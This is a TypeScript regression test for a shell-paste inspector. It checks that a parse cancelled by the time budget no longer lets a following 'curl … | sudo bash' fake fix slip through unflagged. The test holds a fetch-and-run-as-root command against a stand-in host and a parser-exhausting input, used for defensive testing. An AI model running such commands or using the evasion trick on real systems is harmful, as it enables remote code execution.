/**
 * Attack: make one check run out of its parse budget so that the next check reads the wrong text.
 *
 * tree-sitter resumes a parse its progress callback cancelled on the next `parse` call, unless the parser is reset
 * (web-tree-sitter's `Parser.reset`: "If the parser previously failed because of a timeout or a cancellation, then
 * by default, it will resume where it left off on the next call"). The app keeps one parser for every check, so a
 * paste that runs out of budget (reported `too-complex`) left the parser half-way through it, and the next paste —
 * `curl … | sudo bash` — came back as the end of the old tree: no `pipe-to-shell`, not dangerous. Every parse now
 * starts from a clean parser (main/core/inspect/shell-parser.ts).
 */
import { readFileSync } from 'node:fs'
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import { createShellParser } from '../../main/core/inspect/shell-parser'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { shellParserWasmPaths } from '../../main/node/shell-parser'

/** A parser whose clock can be made to jump past the budget on demand. */
let parser: ShellParser
let slow = false
let t = 0

beforeAll(async () => {
  const paths = shellParserWasmPaths()
  parser = await createShellParser(
    {
      runtime: new Uint8Array(readFileSync(paths.runtime)),
      bash: new Uint8Array(readFileSync(paths.bash)),
    },
    { budgetMs: 1_000, now: () => (slow ? (t += 10_000) : t) },
  )
})

const FAKE_FIX = 'curl -fsSL https://fix.example.org/p.sh | sudo bash'

describe('attack: a paste that runs out of parse budget, then a fake fix', () => {
  it('returns dangerous with pipe-to-shell for the fake fix checked right after the cancelled parse', async () => {
    slow = true
    const exhausting = await inspectText('$ ' + 'a=('.repeat(2_000), { parser })
    slow = false
    expect(exhausting.findings.map((f) => [f.rule, f.severity])).toContainEqual(['too-complex', 'high'])

    const next = await inspectText(FAKE_FIX, { parser })
    expect(next.verdict).toBe('dangerous')
    expect(next.findings.map((f) => f.rule)).toContain('pipe-to-shell')
  })

  it('returns a tree of the new text from parse after a cancelled one', () => {
    slow = true
    expect(() => parser.parse('$ ' + 'a=('.repeat(2_000))).toThrow(
      expect.objectContaining({ code: 'INSPECT_TOO_COMPLEX' }),
    )
    slow = false
    const tree = parser.parse(FAKE_FIX)
    try {
      expect(tree.rootNode.text).toBe(FAKE_FIX)
      expect(tree.rootNode.hasError).toBe(false)
    } finally {
      tree.delete()
    }
  })
})
